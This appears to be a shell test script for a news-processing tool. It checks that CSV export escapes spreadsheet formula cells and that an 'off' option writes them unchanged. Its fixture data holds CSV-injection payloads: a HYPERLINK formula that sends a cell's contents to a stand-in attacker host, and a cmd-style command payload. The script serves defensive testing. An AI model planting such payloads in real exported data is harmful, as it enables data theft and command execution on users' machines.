#!/bin/bash
# format "csv": cells that a spreadsheet would run as formulas (= + - @, tab, CR first) get a
# leading ' by default (csv-injection = "escape"); plain numbers stay numbers; "off" writes
# cells as they are.
. "$(dirname "$0")/common.sh"

{
  printf '{"id": "f1", "title": "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"Click\\")", "text": "+1+cmd|x", "section": "-2+3"}\n'
  printf '{"id": "f2", "title": "@SUM(A1:A9)", "text": "Tabbed", "section": "-3.5", "note": "\\tTabbed"}\n'
  printf '{"id": "f3", "title": "\\r=1+1", "text": "Plain text = fine", "section": "+42", "note": "\\r=2+2"}\n'
} > "$WORK/formulas.jsonl"

run_csv() {
  cat > "$WORK/csv.chain" <<CHAIN
fetch "jsonl" { paths = { "$WORK/formulas.jsonl" } }
format "csv" { output = "$WORK/$1.csv" fields = { "id", "title", "text", "section", "note" } $2 }
CHAIN
  expect_status 0 "csv $1" -- "$NEWSFLOW" -c "$WORK/csv.chain"
}
run_csv escaped ""
python3 - "$WORK/escaped.csv" <<'PY' && pass "formula cells start with ', numbers are left alone" || fail "csv-injection escape"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
cells = {r[0]: r[1:4] for r in rows[1:]}
assert cells["f1"] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'+1+cmd|x", "'-2+3"], cells["f1"]
assert cells["f2"] == ["'@SUM(A1:A9)", "Tabbed", "-3.5"], cells["f2"]
assert rows[2][4] == "'\tTabbed", rows[2]
assert rows[3][4] == "'\r=2+2", rows[3]
assert cells["f3"] == ["'=1+1", "Plain text = fine", "+42"], cells["f3"]
for r in rows[1:]:
    for c in r:
        assert c[:1] not in ("=", "+", "-", "@", "\t", "\r") or c in ("-3.5", "+42"), c
PY
run_csv raw 'csv-injection = "off"'
python3 - "$WORK/raw.csv" <<'PY' && pass "csv-injection = off writes cells unchanged" || fail "csv-injection off"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
assert rows[1][1].startswith("=HYPERLINK") and rows[2][1] == "@SUM(A1:A9)", rows
PY
finish
